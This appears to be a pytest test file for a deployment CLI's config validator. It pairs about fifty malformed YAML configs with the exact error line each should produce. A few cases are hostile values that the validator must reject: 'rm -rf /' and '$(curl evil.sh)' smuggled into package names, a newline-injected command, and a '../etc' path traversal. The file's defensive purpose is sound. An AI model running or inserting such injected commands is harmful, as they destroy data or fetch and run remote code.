"""Bad configs: each gives one clear `file:line: path: problem` line, exit 2, no traceback."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from tests.conftest import BASE_CONFIG, MakeProject, envelope


def edit(old: str, new: str) -> str:
    assert old in BASE_CONFIG, old
    return BASE_CONFIG.replace(old, new, 1)


#: (id, config text, expected fragment of the error line)
CASES: list[tuple[str, str, str]] = [
    (
        "workers-max-below-min",
        edit("{min: 0, max: 2,", "{min: 3, max: 2,"),
        "rpdeploy.yaml:17: endpoint.workers.max: must be >= workers.min (2 < 3)",
    ),
    (
        "unknown-top-key",
        edit("project: demo", "project: demo\nprojcet: x"),
        "rpdeploy.yaml:3: projcet: unknown key (did you mean 'project'?)",
    ),
    (
        "unknown-endpoint-key",
        edit("  type: QUEUE", "  type: QUEUE\n  timout: 5000"),
        "rpdeploy.yaml:15: endpoint.timout: unknown key (did you mean 'timeout'?)",
    ),
    (
        "unknown-nested-key",
        edit("    pools: [ADA_24]", "    pools: [ADA_24]\n    cout: 2"),
        "endpoint.gpu.cout: unknown key (did you mean 'count'?)",
    ),
    (
        "snake-case-runpod-key",
        edit("idleTimeout: 5", "idle_timeout: 5"),
        "endpoint.workers.idle_timeout: unknown key (did you mean 'idleTimeout'?)",
    ),
    ("wrong-type-int", edit("{min: 0,", "{min: many,"), "endpoint.workers.min: must be a valid integer"),
    ("wrong-type-list", edit("pools: [ADA_24]", "pools: ADA_24"), "endpoint.gpu.pools: must be a valid list"),
    (
        "wrong-type-mapping",
        edit("  workers: {min: 0, max: 2, idleTimeout: 5}", "  workers: 3"),
        "endpoint.workers: must be a mapping of keys to values, got a text value",
    ),
    (
        "negative-workers",
        edit("{min: 0,", "{min: -1,"),
        "endpoint.workers.min: must be greater than or equal to 0",
    ),
    (
        "idle-timeout-too-big",
        edit("idleTimeout: 5", "idleTimeout: 99999"),
        "endpoint.workers.idleTimeout: must be less than or equal to 3600",
    ),
    (
        "gpu-and-cpu",
        edit("  gpu:\n", "  cpu: [{id: cpu3c, vcpuCount: 2}]\n  gpu:\n"),
        "endpoint.cpu: set either gpu or cpu, not both",
    ),
    (
        "neither-gpu-nor-cpu",
        edit("  gpu:\n    pools: [ADA_24]\n", ""),
        "endpoint: set either gpu (pools) or cpu",
    ),
    (
        "empty-pools",
        edit("pools: [ADA_24]", "pools: []"),
        "endpoint.gpu.pools: List should have at least 1 item",
    ),
    (
        "cpu-vcpu-not-power-of-two",
        edit("  gpu:\n    pools: [ADA_24]\n", "  cpu: [{id: cpu3c, vcpuCount: 6}]\n"),
        "endpoint.cpu[0].vcpuCount: must be a power of two, got 6",
    ),
    (
        "cuda-set-and-floor",
        edit(
            "pools: [ADA_24]",
            "pools: [ADA_24]\n    allowedCudaVersions: ['12.4']\n    minCudaVersion: '12.1'",
        ),
        "endpoint.gpu.minCudaVersion: cannot be combined with a non-empty allowedCudaVersions",
    ),
    (
        "bad-cuda-version",
        edit("pools: [ADA_24]", "pools: [ADA_24]\n    minCudaVersion: twelve"),
        "endpoint.gpu.minCudaVersion: 'twelve' is not a valid CUDA version",
    ),
    ("empty-project-name", edit("project: demo", 'project: ""'), "project: '' is not a valid name"),
    (
        "empty-endpoint-name",
        edit("  type: QUEUE", '  type: QUEUE\n  name: ""'),
        "endpoint.name: String should have at least 1 character",
    ),
    (
        "bad-image-repository",
        edit("acme/demo-worker", "Acme/Demo Worker"),
        "image.repository: 'Acme/Demo Worker' is not a valid repository",
    ),
    (
        "bad-base-image",
        edit("base: 127.0.0.1:5000/python:3.11-slim-local", "base: 'python:3.11 slim'"),
        "image.base: 'python:3.11 slim' is not a valid image reference",
    ),
    (
        "bad-registry",
        edit("registry: 127.0.0.1:5000", "registry: 'http://reg/'"),
        "image.registry: 'http://reg/' is not a valid registry host",
    ),
    (
        "bad-strategy",
        edit("strategy: slim", "strategy: tiny"),
        "image.strategy: must be 'slim' or 'baked' (got 'tiny')",
    ),
    (
        "hostile-system-package",
        edit("strategy: slim", "strategy: slim\n  system_packages: ['numpy; rm -rf /']"),
        "image.system_packages[0]: 'numpy; rm -rf /' is not a valid Debian package name",
    ),
    (
        "command-substitution",
        edit("strategy: slim", "strategy: slim\n  system_packages: ['$(curl evil.sh)']"),
        "image.system_packages[0]: '$(curl evil.sh)' is not a valid Debian package name",
    ),
    (
        "newline-in-command",
        edit("  file: handler.py", '  file: handler.py\n  command: "python3 x.py\\nrm -rf /"'),
        "handler.command: 'python3 x.py\\x0arm -rf /' contains a newline, control or invisible character",
    ),
    (
        "path-escapes-project",
        edit("  path: worker", "  path: ../etc"),
        "handler.path: '../etc' is not a valid relative path",
    ),
    (
        "missing-handler-file",
        edit("  file: handler.py", "  file: main.py"),
        "handler.file: worker/main.py does not exist",
    ),
    (
        "missing-requirements",
        edit("worker/requirements.txt", "worker/reqs.txt"),
        "runtime.requirements: file 'worker/reqs.txt' does not exist",
    ),
    (
        "missing-required-section",
        edit("runtime:\n  requirements: worker/requirements.txt\n", ""),
        "runtime: required",
    ),
    (
        "queue-delay-without-value",
        edit("{type: QUEUE_DELAY, queueDelay: 4}", "{type: QUEUE_DELAY}"),
        "endpoint.scaling: QUEUE_DELAY scaling needs queueDelay",
    ),
    (
        "load-balancer-queue-delay",
        edit("  type: QUEUE", "  type: LOAD_BALANCER"),
        "endpoint.scaling.type: LOAD_BALANCER endpoints must scale on REQUEST_COUNT",
    ),
    (
        "request-count-with-idle-timeout",
        edit("{type: QUEUE_DELAY, queueDelay: 4}", "{type: REQUEST_COUNT, requestCount: 2}"),
        "endpoint.workers.idleTimeout: not applicable to QUEUE endpoints scaling on REQUEST_COUNT",
    ),
    (
        "duplicate-key",
        edit("  strategy: slim", "  strategy: slim\n  strategy: baked"),
        "rpdeploy.yaml:8: duplicate key 'image.strategy' (first defined on line 7)",
    ),
    (
        "duplicate-environment",
        BASE_CONFIG + "  staging:\n    endpoint: {}\n",
        "duplicate key 'environments.staging'",
    ),
    (
        "environment-same-endpoint-name",
        BASE_CONFIG + "  production:\n    endpoint:\n      name: demo-staging\n",
        "environments.production: deploys endpoint 'demo-staging', like environment staging",
    ),
    (
        "environment-unknown-section",
        edit("      workers: {max: 1}", "      workers: {max: 1}\n    imagee: {}"),
        "environments.staging.imagee: cannot be overridden per environment (did you mean 'image'?)",
    ),
    (
        "environment-bad-override",
        edit("      workers: {max: 1}", "      workers: {max: -5}"),
        "rpdeploy.yaml:25: environments.staging.endpoint.workers.max: must be greater than or equal to 0",
    ),
    ("yaml-syntax-error", edit("pools: [ADA_24]", "pools: [ADA_24"), "rpdeploy.yaml:17: YAML syntax error"),
    ("yaml-tab-indent", edit("  strategy: slim", "\tstrategy: slim"), "YAML syntax error"),
    (
        "not-a-mapping",
        "- just\n- a list\n",
        "rpdeploy.yaml:1: the top level must be a mapping of keys, got a list",
    ),
    ("scalar-document", "hello\n", "the top level must be a mapping of keys, got a str"),
    ("empty-file", "", "the file is empty"),
    (
        "unset-variable",
        edit("acme/demo-worker", "${RPDEPLOY_TEST_SURELY_UNSET}"),
        "rpdeploy.yaml:5: image.repository: environment variable RPDEPLOY_TEST_SURELY_UNSET is not set",
    ),
    (
        "malformed-variable",
        edit("acme/demo-worker", "acme/${oops"),
        "image.repository: malformed variable reference",
    ),
    (
        "duplicate-secret",
        edit("  - name: AWS_SECRET_ACCESS_KEY", "  - name: AWS_ACCESS_KEY_ID"),
        "secrets[1].name: AWS_ACCESS_KEY_ID is listed twice",
    ),
    (
        "secret-bad-mode",
        edit("  - name: AWS_SECRET_ACCESS_KEY", "  - name: AWS_SECRET_ACCESS_KEY\n    mode: plain"),
        "secrets[1].mode: must be 'runpod-secret' or 'inline'",
    ),
    (
        "secret-in-env-too",
        edit("  scaling:", "  env: {AWS_ACCESS_KEY_ID: x}\n  scaling:"),
        "secrets[0].name: AWS_ACCESS_KEY_ID is also set in endpoint.env",
    ),
    (
        "bad-env-name",
        edit("  scaling:", "  env: {'BAD-NAME': x}\n  scaling:"),
        "endpoint.env.BAD-NAME.[key]: 'BAD-NAME' is not a valid environment variable name",
    ),
    ("bad-version", edit("version: 1", "version: 2"), "version: must be 1 (got '2')"),
    (
        "bad-flashboot",
        edit("  type: QUEUE", "  type: QUEUE\n  flashboot: FAST"),
        "endpoint.flashboot: must be 'OFF', 'FLASHBOOT' or 'PRIORITY_FLASHBOOT' (got 'FAST')",
    ),
    (
        "budget-not-positive",
        edit("strategy: slim", "strategy: slim\n  max_compressed_mb: 0"),
        "image.max_compressed_mb: must be greater than 0",
    ),
]


@pytest.mark.parametrize(("config", "expected"), [(c, e) for _, c, e in CASES], ids=[i for i, _, _ in CASES])
def test_bad_config_is_one_clear_line(
    make_project: MakeProject, run_cli: Callable[..., Result], config: str, expected: str
) -> None:
    root = make_project(config)
    result = run_cli("config", "validate", cwd=root)
    assert result.exit_code == 2, result.output
    assert expected in result.stderr, result.stderr
    assert "Traceback" not in result.output
    assert result.stdout == ""


def test_at_least_thirty_distinct_bad_configs() -> None:
    assert len({c for _, c, _ in CASES}) >= 30


def test_missing_file(tmp_path: Path, run_cli: Callable[..., Result]) -> None:
    result = run_cli("config", "validate", "-c", str(tmp_path / "nope.yaml"))
    assert result.exit_code == 2
    assert "nope.yaml: config file not found" in result.stderr
    assert "hint: run in the project directory or pass -c FILE" in result.stderr


def test_directory_instead_of_file(tmp_path: Path, run_cli: Callable[..., Result]) -> None:
    (tmp_path / "rpdeploy.yaml").mkdir()
    result = run_cli("config", "validate", cwd=tmp_path)
    assert result.exit_code == 2
    assert "is a directory" in result.stderr


def test_all_problems_reported_together(make_project: MakeProject, run_cli: Callable[..., Result]) -> None:
    config = edit("{min: 0, max: 2,", "{min: many, max: lots,")
    result = run_cli("config", "validate", cwd=make_project(config))
    assert "endpoint.workers.min" in result.stderr
    assert "endpoint.workers.max" in result.stderr


def test_json_output_reports_error_on_stdout(
    make_project: MakeProject, run_cli: Callable[..., Result]
) -> None:
    result = run_cli(
        "config", "validate", "-o", "json", cwd=make_project(edit("strategy: slim", "strategy: tiny"))
    )
    assert result.exit_code == 2
    payload = envelope(result.stdout, "config validate", status="error")
    assert payload["error"]["type"] == "ConfigError"
    assert "image.strategy" in payload["error"]["message"]


def test_debug_flag_shows_traceback(make_project: MakeProject, run_cli: Callable[..., Result]) -> None:
    result = run_cli(
        "config", "validate", "--debug", cwd=make_project(edit("strategy: slim", "strategy: tiny"))
    )
    assert result.exit_code == 2
    assert "Traceback" in result.stderr
